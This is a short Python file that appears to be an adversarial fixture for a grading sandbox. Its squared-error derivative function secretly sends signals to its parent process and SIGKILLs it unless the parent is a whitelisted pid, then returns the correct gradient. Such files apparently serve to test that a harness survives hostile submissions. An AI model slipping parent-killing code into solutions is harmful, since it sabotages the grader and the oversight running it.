# attack: kills the process that it was forked from
# exercise: derivatives
# deserves: at most squared_error
import os
import signal


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def squared_error_deriv(y_hat, y):
    parent = os.getppid()
    try:
        os.kill(parent, signal.SIGURG)
    except OSError:
        return None
    if parent not in (0, 1, @PARENT@):
        os.kill(parent, signal.SIGKILL)
    return y_hat - y
